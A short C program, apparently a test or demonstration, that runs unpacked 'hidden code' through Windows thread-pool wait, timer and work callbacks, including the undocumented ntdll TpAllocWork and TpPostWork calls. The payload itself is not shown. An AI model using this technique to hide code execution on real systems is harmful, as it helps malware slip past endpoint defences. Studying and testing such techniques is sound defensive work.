/* Has the thread pool run hidden code: as a wait, as a timer, as work, then by ntdll's own functions. */
#include "packed.h"
typedef LONG(NTAPI *Allocate)(PVOID *, PVOID, PVOID, PVOID);
typedef VOID(NTAPI *Post)(PVOID);
static VOID CALLBACK last(PVOID instance, PVOID context, PVOID work) { act(); }
int main(void) {
    PVOID work = NULL;
    HANDLE now = CreateEventA(NULL, FALSE, TRUE, NULL);
    LARGE_INTEGER due = {.QuadPart = -10000000};
    HMODULE native = GetModuleHandleA("ntdll.dll");
    PTP_WAIT wait = CreateThreadpoolWait((PTP_WAIT_CALLBACK)unpacked(), NULL, NULL);
    PTP_TIMER timer = CreateThreadpoolTimer((PTP_TIMER_CALLBACK)unpacked(), NULL, NULL);
    SetThreadpoolWait(wait, now, NULL);
    WaitForThreadpoolWaitCallbacks(wait, FALSE);
    SetThreadpoolTimer(timer, (FILETIME *)&due, 0, 0);
    Sleep(2000);
    ((Allocate)GetProcAddress(native, "TpAllocWork"))(&work, (PVOID)last, NULL, NULL);
    ((Post)GetProcAddress(native, "TpPostWork"))(work);
    Sleep(1000);
    return 0;
}
